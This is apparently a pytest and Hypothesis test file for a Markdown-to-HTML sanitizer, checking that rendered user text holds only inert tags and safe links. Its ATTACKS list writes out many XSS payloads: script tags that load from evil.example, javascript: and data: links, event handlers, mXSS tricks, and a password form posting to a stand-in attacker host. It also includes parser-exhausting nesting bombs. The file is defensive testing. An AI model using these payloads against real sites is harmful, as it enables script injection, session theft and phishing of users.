"""Whatever somebody writes, a page shows it and runs none of it."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests import strategies
from ui import markdown
from ui.markdown import ATTRIBUTES, TAGS, as_html, as_line, as_text

REL = 'rel="nofollow noopener ugc"'


class Found(HTMLParser):
    """The tags of a page with their attributes, as a browser would parse them."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.others: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data):
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def is_inert(html: str) -> bool:
    """Whether the HTML has only plain tags, and links to web or mail addresses."""
    found = Found(html)
    allowed = {**{tag: set() for tag in TAGS}, **ATTRIBUTES, "a": ATTRIBUTES["a"] | {"rel"}}
    return not found.others and all(
        tag in allowed
        and set(attributes) <= allowed[tag]
        and scheme_of(attributes.get("href", "")) in ("", "http", "https", "mailto")
        for tag, attributes in found.tags
    )


def scheme_of(address: str) -> str:
    """The scheme of an address as a browser parses it: without tabs, line breaks and leading blanks."""
    found = re.match(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):", re.sub(r"[\t\r\n]", "", address).lower())
    return found[1] if found else ""


def test_the_check_notices_active_html():
    assert is_inert('<p>a <a href="https://example.org" title="b" rel="c">d</a></p>')
    assert not is_inert("<p><script>a</script></p>")
    assert not is_inert('<p onclick="a">b</p>')
    for address in ("javascript:a", " \x01JAVA\nscript:a", "java&#9;script&colon;a", "data:text/html,a"):
        assert not is_inert(f'<a href="{address}">b</a>')
    assert not is_inert("<!-- a -->")


ATTACKS = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<ScRiPt SRC=//evil.example/x.js></sCrIpT>",
    "an unclosed script": "<script src=//evil.example",
    "a script in an attribute": '"><script>alert(1)</script>',
    "a script in a code span": "`</code><script>alert(1)</script>`",
    "a script in a code block": "```\n</pre><script>alert(1)</script>\n```",
    "a script in a fence's language": '```"><script>alert(1)</script>\na\n```',
    "a script in a link's title": '[a](https://example.org "\\"><script>alert(1)</script>")',
    "a script in a heading": "# <script>alert(1)</script>",
    "a script in a table": "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "a javascript link": "[a](javascript:alert(1))",
    "a javascript link in capitals": "[a](JaVaScRiPt:alert(1))",
    "a javascript link with a tab": "[a](java\tscript:alert(1))",
    "a javascript link with a line break": "[a](java&#10;script:alert(1))",
    "a javascript link by entities": "[a](&#106;avascript&#58;alert(1))",
    "a javascript link by named entities": "[a](javascript&colon;alert(1))",
    "a javascript link with a control character": "[a](\x01javascript:alert(1))",
    "a javascript link in brackets": "[a](<javascript:alert(1)>)",
    "a javascript link by reference": "[a]\n\n[a]: javascript:alert(1)",
    "a javascript autolink": "<javascript:alert(1)>",
    "a vbscript link": "[a](vbscript:msgbox(1))",
    "a data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "a data autolink": "<data:text/html,a>",
    "a file link": "[a](file:///etc/passwd)",
    "an image": "![a](https://evil.example/track.gif)",
    "a data image": "![a](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
    "an image that fails": "<img src=x onerror=alert(1)>",
    "an svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "an svg that moves": '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>a</a></svg>',
    "mathematics": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a&gt;">',
    "a style sheet": "<style>body{display:none}</style>",
    "a style": '<p style="position:fixed;inset:0">a</p>',
    "a class": '<p class="button" id="content">a</p>',
    "an event": '<a href="https://example.org" onmouseover="alert(1)">a</a>',
    "an event by a title": '[a](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "an event by an address": '[a](https://example.org/"onmouseover="alert(1))',
    "an event by an autolink": '<https://example.org/"onmouseover="alert(1)>',
    "a frame": '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
    "an object": '<object data="javascript:alert(1)"></object><embed src="//evil.example">',
    "a form": '<form action="https://evil.example"><input name="password"><button>a</button></form>',
    "a base": '<base href="https://evil.example/">',
    "a meta tag": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "a link tag": '<link rel="stylesheet" href="https://evil.example">',
    "a comment": "<!-- a --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "a declaration": "<!DOCTYPE html><![CDATA[<script>alert(1)</script>]]><?php a ?>",
    "a template": "<template><script>alert(1)</script></template>{{ a }}{% debug %}",
    "entities of tags": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "a null byte": "<scr\0ipt>alert(1)</scr\0ipt>",
    "a strange tag": "<x/onclick=alert(1)>a",
    "a nested tag": "<<script>script>alert(1)<</script>/script>",
    "attributes by braces": '# a {onclick="alert(1)" .b}',
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_an_attack_has_no_effect(attack):
    assert is_inert(as_html(attack))
    assert is_inert(as_line(attack))
    assert is_inert(as_html(f"> - {attack}\n>   **{attack}**"))


@strategies.steadily
@given(
    st.lists(st.sampled_from([*ATTACKS.values(), *"<>\"'&`[]()!*_#|\\ \n", "a", "://", "&#x6A;"]), max_size=8).map(
        "".join
    )
)
def test_any_mixture_of_attacks_has_no_effect(text):
    assert is_inert(as_html(text))
    assert is_inert(as_line(text))


DEEP = {
    "brackets": "[" * 5000 + "]" * 5000,
    "open brackets": "[" * 5000,
    "images": "![" * 5000,
    "links": "[a](" * 5000,
    "quotes": "> " * 2000 + "a",
    "stars": "*a **a " * 2500,
    "underscores": "_" * 5000 + "a" + "_" * 5000,
    "backticks": "".join("`" * number + " " for number in range(1, 100)),
    "tags": "<a " * 5000,
    "entities": "&" * 5000,
    "table": "|" * 2000 + "\n" + "|-" * 1999 + "|\n" + "|" * 2000,
}  # fmt: skip


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP)
def test_deeply_nested_text_is_rendered_without_effect(text):
    assert is_inert(as_html(text))
    assert is_inert(as_line(text))


def test_five_thousand_brackets_are_shown():
    assert as_html(DEEP["brackets"]) == f"<p>{DEEP['brackets']}</p>"
    assert as_line(DEEP["open brackets"]) == DEEP["open brackets"]


# Supported Markdown


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("a", "<p>a</p>"),
        ("a\nb\n\nc", "<p>a\nb</p>\n<p>c</p>"),
        ("a  \nb", "<p>a<br>\nb</p>"),
        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>"),
        ("- a\n  1. b", "<ul>\n<li>a\n<ol>\n<li>b</li>\n</ol>\n</li>\n</ul>"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("    a < b", "<pre><code>a &lt; b\n</code></pre>"),
        ("a\n\n---", "<p>a</p>\n<hr>"),
        ("a & b < c > \"d\" 'e'", "<p>a &amp; b &lt; c &gt; \"d\" 'e'</p>"),
        ("🦉 שלום a\N{NO-BREAK SPACE}b", "<p>🦉 שלום a&nbsp;b</p>"),
        (
            "|a|b|\n|-|-|\n|c|d|",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>c</td>\n<td>d</td>\n</tr>\n</tbody>\n</table>",
        ),
    ],
)
def test_markdown_becomes_html(text, html):
    assert as_html(text) == html


def test_headings_start_below_those_of_the_page():
    assert as_html("# a\n## b\n### c\n#### d\n##### e\n###### f\ng\n=\nh\n-") == (
        "<h3>a</h3>\n<h4>b</h4>\n<h5>c</h5>\n<h6>d</h6>\n<h6>e</h6>\n<h6>f</h6>\n<h3>g</h3>\n<h4>h</h4>"
    )


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("[a](https://example.org)", f'<a href="https://example.org" {REL}>a</a>'),
        ("[a](http://example.org 'b')", f'<a href="http://example.org" title="b" {REL}>a</a>'),
        ("[a](mailto:ada@example.org)", f'<a href="mailto:ada@example.org" {REL}>a</a>'),
        ("[a](/harbor/steps/)", f'<a href="/harbor/steps/" {REL}>a</a>'),
        ("[a](#b)", f'<a href="#b" {REL}>a</a>'),
        ("<https://example.org>", f'<a href="https://example.org" {REL}>https://example.org</a>'),
        ("<ada@example.org>", f'<a href="mailto:ada@example.org" {REL}>ada@example.org</a>'),
        ("https://example.org", "https://example.org"),
    ],
)
def test_links_pass_on_no_reputation_and_open_no_window(text, html):
    assert as_html(text) == f"<p>{html}</p>"
    assert as_line(text) == html


# Lines


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("Asks why.", "Asks why."),
        ("Listens, 3 times a day; more?", "Listens, 3 times a day; more?"),
        ("*a* **b** `c`", "<em>a</em> <strong>b</strong> <code>c</code>"),
        ("a & b", "a &amp; b"),
        ('it\'s "a"', 'it\'s "a"'),
        ("# a", "# a"),
        ("- a", "- a"),
        ("1. a", "1. a"),
        ("> a", "&gt; a"),
        ("a\nb", "a\nb"),
    ],
)
def test_a_line_has_only_emphasis_code_and_links(text, html):
    assert as_line(text) == html


@strategies.steadily
@given(st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=30))
def test_a_line_of_plain_text_is_shown_as_it_is(text):
    words = "".join(c for c in text if c.isalnum() or c in " .,;?")
    assert as_line(words).split() == words.split()


# Plain text


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("", ""),
        ("# Listens\n\n- *to* all\n- and\n  each", "Listens to all and each"),
        ("Knows **Git**, un*even*ly; `a<b`.", "Knows Git, unevenly; a<b."),
        ("[Guide](https://example.org 'a > b') here", "Guide here"),
        ("a & b &amp; &lt;c&gt;", "a & b & <c>"),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("a  \nb\n\n\nc", "a b c"),
        ("|a|b|\n|-|-|\n|c|d|", "a b c d"),
        ("```\na <b>\n```", "a <b>"),
    ],
)
def test_plain_text_is_on_one_line(text, words):
    assert as_text(text) == words


def test_a_short_text_does_not_become_a_huge_table_and_long_texts_are_not_cached():
    bomb = "|" * 1000 + "\n" + "|-" * 1000 + "|\n" + "|\n" * 5000
    assert len(as_html(bomb)) < 100_000
    assert "<table>" in as_html("| a | b |\n|---|---|\n| 1 | 2 |\n")
    kept = markdown._kept_html.cache_info().currsize
    as_html("word " * 2000)
    assert markdown._kept_html.cache_info().currsize == kept
